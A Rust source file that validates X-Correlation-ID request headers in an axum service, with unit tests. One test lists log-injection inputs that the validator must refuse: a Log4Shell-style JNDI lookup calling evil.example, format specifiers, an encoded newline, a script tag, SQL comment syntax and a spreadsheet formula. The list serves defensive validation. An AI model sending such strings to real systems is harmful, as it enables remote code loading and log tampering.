//! The id that tells one attempt from every other.

use std::sync::Arc;

use axum::http::{HeaderMap, HeaderValue};
use bulkhead_core::wire;

use crate::refusal::Refusal;

/// The longest id that is taken, in characters.
const MOST_CHARACTERS: usize = 128;

/// The value of the header `X-Correlation-ID`: 1 to 128 letters and digits of ASCII and the signs
/// `-`, `.`, `_`, `~` and `:`. Services log it, too, and nothing in these means anything to a log.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub(crate) struct CorrelationId(Arc<str>);

impl CorrelationId {
    /// One that nobody had before.
    pub(crate) fn random() -> Self {
        Self(format!("{:032x}", fastrand::u128(..)).into())
    }

    /// The id of a request; a random one where it names none.
    ///
    /// # Errors
    /// Where it names several, or one of another form.
    pub(crate) fn of(headers: &HeaderMap) -> Result<Self, Refusal> {
        let mut values = headers.get_all(wire::CORRELATION_ID).iter();
        let Some(value) = values.next() else {
            return Ok(Self::random());
        };
        if values.next().is_some() {
            return Err(Refusal::CorrelationMalformed);
        }
        let text = value.to_str().ok();
        text.and_then(Self::parse)
            .ok_or(Refusal::CorrelationMalformed)
    }

    /// Reads an id. None where it has another form.
    pub(crate) fn parse(text: &str) -> Option<Self> {
        let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~:".contains(&byte);
        let fits = (1..=MOST_CHARACTERS).contains(&text.len()) && text.bytes().all(is_plain);
        fits.then(|| Self(text.into()))
    }

    pub(crate) fn as_str(&self) -> &str {
        &self.0
    }

    /// The run that it belongs to, if it is one of the page's.
    pub(crate) fn run(&self) -> Option<&str> {
        wire::run_of(&self.0)
    }

    /// Writes the id into headers.
    pub(crate) fn write(&self, headers: &mut HeaderMap) {
        if let Ok(value) = HeaderValue::from_str(&self.0) {
            headers.insert(wire::CORRELATION_ID, value);
        }
    }
}

#[cfg(test)]
mod tests {
    use bulkhead_core::wire::{CorrelationId as PageId, RunId};

    use super::*;

    fn of(values: &[&[u8]]) -> Option<CorrelationId> {
        let mut headers = HeaderMap::new();
        for value in values {
            let value = HeaderValue::from_bytes(value).unwrap();
            headers.append(wire::CORRELATION_ID, value);
        }
        CorrelationId::of(&headers).ok()
    }

    #[test]
    fn letters_digits_and_plain_signs_are_taken_as_they_are() {
        for text in ["r1-0-1", "A.z_9~:", &"x".repeat(128)] {
            assert_eq!(of(&[text.as_bytes()]).unwrap().as_str(), text);
        }
    }

    #[test]
    fn what_the_page_makes_is_taken() {
        let mut rng = fastrand::Rng::with_seed(7);
        let run = RunId::random(&mut rng);
        for made in [
            PageId::of(&run, 0),
            PageId::of(&run, u32::MAX),
            PageId::of_reading(Some(&run), &mut rng),
            PageId::of_reading(None, &mut rng),
            PageId::random(&mut rng),
        ] {
            let taken = of(&[made.as_str().as_bytes()]);
            assert_eq!(taken.unwrap().as_str(), made.as_str());
        }
        let own = CorrelationId::random();
        assert_eq!(of(&[own.as_str().as_bytes()]), Some(own));
    }

    /// Each of them has been a way to do something to what reads a log.
    #[test]
    fn an_id_that_means_something_to_a_log_is_refused() {
        for value in [
            "${jndi:ldap://evil.example/a}",
            "%n%n",
            "a%0ab",
            "<script>",
            "';--",
            "\"}",
            "\\u000a",
            "=1+1",
            "a,b",
            "a/b",
        ] {
            assert_eq!(of(&[value.as_bytes()]), None, "{value:?}");
        }
    }

    #[test]
    fn anything_else_is_refused() {
        for value in [&b""[..], b"a b", b"a\tb", "ä".as_bytes(), &[b'x'; 129]] {
            assert_eq!(of(&[value]), None, "{value:?}");
        }
        assert_eq!(of(&[b"a", b"a"]), None);
    }

    #[test]
    fn a_request_without_one_gets_one_of_its_own() {
        let (one, other) = (of(&[]).unwrap(), of(&[]).unwrap());
        assert_ne!(one, other);
        assert_eq!(one.as_str().len(), 32);
    }
}
